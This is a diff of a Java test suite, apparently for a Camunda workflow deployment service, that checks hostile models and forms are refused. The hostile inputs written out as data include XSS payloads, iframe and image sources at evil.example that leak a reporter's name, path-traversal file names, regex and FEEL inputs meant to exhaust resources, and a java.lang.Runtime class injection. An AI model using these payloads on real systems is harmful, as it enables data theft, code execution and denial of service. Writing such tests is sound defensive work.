+                        "index of(checks, 1)", "concatenate(checks, checks)", "duration(summary)",
+                        "contains(summary, summary)", "substring after(summary, summary)", "summary" + " + summary".repeat(11),
+                        "if a in ".repeat(7) + "a" + " then ? else ?".repeat(7), "abs((abs((abs((1))))))",
+                        "(".repeat(7) + "1", "(]".repeat(4) + "1", "`\"` + " + "(".repeat(7) + "1", "/* \" */" + "(".repeat(7) + "1",
+                        "// \"\n" + "[".repeat(7) + "1")
                         .map(feel -> attack("FEEL " + feel, TABLE, CELL, "<text>" + feel + "</text>", TABLE + ": the element ")),
-                Stream.of(attack("a file full of FEEL", TABLE, CELL, "<text>" + "1".repeat(100_001) + "</text>", "more FEEL than tables have"))).flatMap(each -> each);
+                Stream.of(attack("a file full of FEEL", TABLE, CELL, "<text>" + "1".repeat(100_001) + "</text>",
+                        "more FEEL than tables have")))
+                .flatMap(each -> each);
     }
 
     private static Stream<Arguments> forms() {
         return Stream.of(
-                attack("a page of HTML", FORM, "\"type\": \"text\"", "\"type\": \"html\", \"content\": \"<b>x</b>\"", "is of the type 'html'"),
-                attack("a frame", FORM, "\"type\": \"text\"", "\"type\": \"iframe\", \"url\": \"https://evil.example\"", "is of the type 'iframe'"),
-                attack("a picture that tells", FORM, "\"type\": \"text\"", "\"type\": \"image\", \"source\": \"=\\\"https://evil.example/\\\" + reporterName\"", "is of the type 'image'"),
+                attack("a page of HTML", FORM, "\"type\": \"text\"", "\"type\": \"html\", \"content\": \"<b>x</b>\"",
+                        "is of the type 'html'"),
+                attack("a frame", FORM, "\"type\": \"text\"", "\"type\": \"iframe\", \"url\": \"https://evil.example\"",
+                        "is of the type 'iframe'"),
+                attack("a picture that tells", FORM, "\"type\": \"text\"",
+                        "\"type\": \"image\", \"source\": \"=\\\"https://evil.example/\\\" + reporterName\"", "is of the type 'image'"),
                 attack("a link", FORM, FACTS, "\"text\": \"[click here](https://evil.example/{{facts}})\"", "shows an address"),
                 attack("a link by reference", FORM, FACTS, "\"text\": \"[click here][x]\"", "shows an address"),
                 attack("a bare address", FORM, FACTS, "\"text\": \"see www.evil.example\"", "shows an address"),
                 attack("a script", FORM, FACTS, "\"text\": \"[x](javascript:alert(1))\"", "shows an address"),
                 attack("HTML", FORM, FACTS, "\"text\": \"<img src=x onerror=alert(1)>\"", "shows an address"),
-                attack("a computed text", FORM, FACTS, "\"text\": \"=\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName\"", "computes its text"),
-                attack("a computed part", FORM, FACTS, "\"text\": \"{{\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName}}\"", "Only names stand in braces"),
-                attack("an endless condition", FORM, FACTS, FACTS + ", \"conditional\": {\"hide\": \"=count(for i in 1..1000000000 return i) > 0\"}", "not open to tables and forms"),
-                attack("many conditions", FORM, FACTS, FACTS + "}" + ", {\"type\": \"text\", \"conditional\": {\"hide\": \"=true\"}}".repeat(101) + ", {\"type\": \"text\"", "more than 100 conditions"),
-                attack("a condition in brackets", FORM, FACTS, FACTS + ", \"conditional\": {\"hide\": \"=" + "(".repeat(40) + "1\"}", "brackets"),
-                attack("a pattern of copies", FORM, FACTS, FACTS + ", \"validate\": {\"pattern\": \"((){2000000000}){2000000000}\"}", "may take for ever"),
-                attack("a text that is a field", FORM, FACTS, "\"text\": \"{{reviewComment}}\"", "the field reviewComment is also shown in a text"),
-                attack("a deep form", FORM, "\"components\": [", "\"x\": " + "[".repeat(5000) + "]".repeat(5000) + ", \"components\": [", "Not a Camunda Form"),
+                attack("a computed text", FORM, FACTS, "\"text\": \"=\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName\"",
+                        "computes its text"),
+                attack("a computed part", FORM, FACTS, "\"text\": \"{{\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName}}\"",
+                        "Only names stand in braces"),
+                attack("an endless condition", FORM, FACTS,
+                        FACTS + ", \"conditional\": {\"hide\": \"=count(for i in 1..1000000000 return i) > 0\"}",
+                        "not open to tables and forms"),
+                attack("many conditions", FORM, FACTS,
+                        FACTS + "}" + ", {\"type\": \"text\", \"conditional\": {\"hide\": \"=true\"}}".repeat(101)
+                                + ", {\"type\": \"text\"",
+                        "more than 100 conditions"),
+                attack("a condition in brackets", FORM, FACTS, FACTS + ", \"conditional\": {\"hide\": \"=" + "(".repeat(40) + "1\"}",
+                        "brackets"),
+                attack("a pattern of copies", FORM, FACTS, FACTS + ", \"validate\": {\"pattern\": \"((){2000000000}){2000000000}\"}",
+                        "may take for ever"),
+                attack("a text that is a field", FORM, FACTS, "\"text\": \"{{reviewComment}}\"",
+                        "the field reviewComment is also shown in a text"),
+                attack("a deep form", FORM, "\"components\": [", "\"x\": " + "[".repeat(5000) + "]".repeat(5000) + ", \"components\": [",
+                        "Not a Camunda Form"),
                 attack("two keys of one name", FORM, "\"components\": [", "\"components\": [], \"components\": [", "Not a Camunda Form"));
     }
 
@@ -216,22 +343,29 @@ class HostileModelTest extends EngineTest {
     @Test
     void isRefusedAtTheWebApplicationsToo() {
         Browser browser = new Browser().login("owner");
-        attacks().map(Arguments::get).filter(attack -> attack[0].toString().matches("a (class|connector|link|document type|timer of nothing|table in juel)")).forEach(attack -> {
-            Map<String, String> files = changed(attack[1].toString(), attack[2].toString(), attack[3].toString());
-            HttpResponse<String> answer = browser.send(DeploymentRoutes.WEB_APPLICATIONS, DeploymentRoutes.MULTIPART, DeploymentRoutes.body(files));
-            assertRefused(answer, attack[1].toString(), attack[4].toString());
-        });
+        attacks().map(Arguments::get)
+                .filter(attack -> attack[0].toString().matches("a (class|connector|link|document type|timer of nothing|table in juel)"))
+                .forEach(attack -> {
+                    Map<String, String> files = changed(attack[1].toString(), attack[2].toString(), attack[3].toString());
+                    HttpResponse<String> answer = browser.send(DeploymentRoutes.WEB_APPLICATIONS, DeploymentRoutes.MULTIPART,
+                            DeploymentRoutes.body(files));
+                    assertRefused(answer, attack[1].toString(), attack[4].toString());
+                });
     }
 
     @Test
     void whatStoodInTheDatabaseIsRefusedWhenItIsDeployedAgain() {
         assertThat(deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files())).statusCode()).isEqualTo(200);
         Deployment good = engine.getRepositoryService().createDeploymentQuery().deploymentName("by hand").singleResult();
-        jdbc.sql("update act_ge_bytearray set bytes_ = :bytes where deployment_id_ = :deployment and name_ = :name").param("deployment", good.getId()).param("name", MODEL)
-                .param("bytes", DeploymentRoutes.files().get(MODEL).replace(TASK, TASK.replace("camunda:delegate", "camunda:class=\"java.lang.Runtime\" camunda:delegate")).getBytes()).update();
+        jdbc.sql("update act_ge_bytearray set bytes_ = :bytes where deployment_id_ = :deployment and name_ = :name")
+                .param("deployment", good.getId()).param("name", MODEL)
+                .param("bytes", DeploymentRoutes.files().get(MODEL)
+                        .replace(TASK, TASK.replace("camunda:delegate", "camunda:class=\"java.lang.Runtime\" camunda:delegate")).getBytes())
+                .update();
         deployments++;
 
-        assertRefused(post("owner", "/engine-rest/deployment/" + good.getId() + "/redeploy", "{}"), MODEL, "serviceTask_remindReviewer brings a class");
+        assertRefused(post("owner", "/engine-rest/deployment/" + good.getId() + "/redeploy", "{}"), MODEL,
+                "serviceTask_remindReviewer brings a class");
     }
 
     @ParameterizedTest
@@ -244,33 +378,42 @@ class HostileModelTest extends EngineTest {
     }
 
     static Stream<String> names() {
-        return Stream.of("evil.html", "evil.js", "evil.cmmn", "evil.bpmn20.xml", "evil.dmn11.xml", "evil.svg", "../../evil.bpmn", "..\\evil.bpmn", "evil.bpmn/", ".bpmn", "a;b.bpmn",
+        return Stream.of("evil.html", "evil.js", "evil.cmmn", "evil.bpmn20.xml", "evil.dmn11.xml", "evil.svg", "../../evil.bpmn",
+                "..\\evil.bpmn", "evil.bpmn/", ".bpmn", "a;b.bpmn",
                 "x".repeat(300) + ".bpmn", "BOOT-INF/../evil.form");
     }
 
     @Test
     void aBigFileAndManyFilesAreRefused() {
-        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("big.bpmn", "<x>" + "y".repeat(2_100_000) + "</x>"))).body()).contains("big.bpmn is too big");
+        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("big.bpmn", "<x>" + "y".repeat(2_100_000) + "</x>"))).body())
+                .contains("big.bpmn is too big");
         Map<String, String> many = IntStream.range(0, 300).boxed().collect(Collectors.toMap(i -> "f" + i + ".form", i -> "{}"));
         assertThat(deploy("owner", DeploymentRoutes.body(many)).body()).contains("more files than a procedure has");
     }
 
     @Test
     void manyProcessesAndManyStartsByTimerAreRefused() {
-        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(51, "")))).body()).contains("more processes than a procedure has");
+        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(51, "")))).body())
+                .contains("more processes than a procedure has");
         String timer = "<bpmn:startEvent><bpmn:timerEventDefinition><bpmn:timeCycle>R/PT1M</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>";
-        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(1, timer.repeat(51))))).body()).contains("50 that a timer starts");
+        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(1, timer.repeat(51))))).body())
+                .contains("50 that a timer starts");
     }
 
     private static String definitions(int processes, String inside) {
-        return IntStream.range(0, processes).mapToObj(i -> "<bpmn:process id=\"p" + i + "\" isExecutable=\"true\">" + inside + "</bpmn:process>")
-                .collect(Collectors.joining("", "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" targetNamespace=\"x\">", "</bpmn:definitions>"));
+        return IntStream.range(0, processes)
+                .mapToObj(i -> "<bpmn:process id=\"p" + i + "\" isExecutable=\"true\">" + inside + "</bpmn:process>")
+                .collect(Collectors.joining("",
+                        "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" targetNamespace=\"x\">",
+                        "</bpmn:definitions>"));
     }
 
     @Test
     void whatIsDoneAtTheSameTimeInAStageMayBeDoneAgain() {
-        var model = Bpmn.createExecutableProcess("together").camundaHistoryTimeToLive(1).startEvent().userTask("userTask_plan").subProcess("stage").embeddedSubProcess().startEvent()
-                .parallelGateway("both").userTask("userTask_one").parallelGateway("joined").endEvent().moveToNode("both").userTask("userTask_two").connectTo("joined").subProcessDone()
+        var model = Bpmn.createExecutableProcess("together").camundaHistoryTimeToLive(1).startEvent().userTask("userTask_plan")
+                .subProcess("stage").embeddedSubProcess().startEvent()
+                .parallelGateway("both").userTask("userTask_one").parallelGateway("joined").endEvent().moveToNode("both")
+                .userTask("userTask_two").connectTo("joined").subProcessDone()
                 .connectTo("userTask_plan").done();
 
         engine.getRepositoryService().createDeployment().name("by hand").addModelInstance("together.bpmn", model).deploy();
@@ -280,7 +423,8 @@ class HostileModelTest extends EngineTest {
 
     @Test
     void aTenantIsRefused() {
-        assertThat(deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files(), "tenant-id", "other")).body()).contains("This desk has no tenants");
+        assertThat(deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files(), "tenant-id", "other")).body())
+                .contains("This desk has no tenants");
     }
 
     @Test
@@ -288,7 +432,9 @@ class HostileModelTest extends EngineTest {
         HttpResponse<String> answer = deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files()));
 
         assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
-        assertThat(jdbc.sql("select actor || ' ' || (details ->> 'name') || ' ' || (details ->> 'definitions') from sixstep.security_event where kind = 'modelDeployed' order by at desc limit 1")
+        assertThat(jdbc.sql(
+                "select actor || ' ' || (details ->> 'name') || ' ' || (details ->> 'definitions') from sixstep.security_event where kind"
+                        + " = 'modelDeployed' order by at desc limit 1")
                 .query(String.class).single()).startsWith("owner by hand ").contains("supportTicket:").contains("assignPriority:");
     }
 
@@ -307,12 +453,16 @@ class HostileModelTest extends EngineTest {
     }
 
     private String refusals(String user) {
-        return jdbc.sql("select details ->> 'reason' from sixstep.security_event where kind = 'modelRefused' and actor = :user order by id desc limit 1").param("user", user)
+        return jdbc.sql(
+                "select details ->> 'reason' from sixstep.security_event where kind = 'modelRefused' and actor = :user order by id desc"
+                        + " limit 1")
+                .param("user", user)
                 .query(String.class).single();
     }
 
     private HttpResponse<String> deploy(String user, String body) {
-        return send(as(user, DeploymentRoutes.ENGINE_REST).header("Content-Type", DeploymentRoutes.MULTIPART).POST(BodyPublishers.ofString(body)));
+        return send(as(user, DeploymentRoutes.ENGINE_REST).header("Content-Type", DeploymentRoutes.MULTIPART)
+                .POST(BodyPublishers.ofString(body)));
     }
 
     private static Map<String, String> changed(String file, String right, String wrong) {
@@ -342,12 +492,14 @@ class HostileModelTest extends EngineTest {
     }
 
     private static String eventStage(String begunBy, String throwing) {
-        return "<bpmn:subProcess id=\"event\" triggeredByEvent=\"true\"><bpmn:startEvent id=\"happened\">" + begunBy + "</bpmn:startEvent>" + flow("happened", "over") + "<bpmn:endEvent id=\"over\">"
+        return "<bpmn:subProcess id=\"event\" triggeredByEvent=\"true\"><bpmn:startEvent id=\"happened\">" + begunBy + "</bpmn:startEvent>"
+                + flow("happened", "over") + "<bpmn:endEvent id=\"over\">"
                 + throwing + "</bpmn:endEvent></bpmn:subProcess>";
     }
 
     private static String failure(String extension) {
-        return "<bpmn:boundaryEvent id=\"failed\" attachedToRef=\"serviceTask_remindReviewer\">" + extension + "<bpmn:errorEventDefinition /></bpmn:boundaryEvent>";
+        return "<bpmn:boundaryEvent id=\"failed\" attachedToRef=\"serviceTask_remindReviewer\">" + extension
+                + "<bpmn:errorEventDefinition /></bpmn:boundaryEvent>";
     }
 
     private static Arguments circle(String name, String added) {
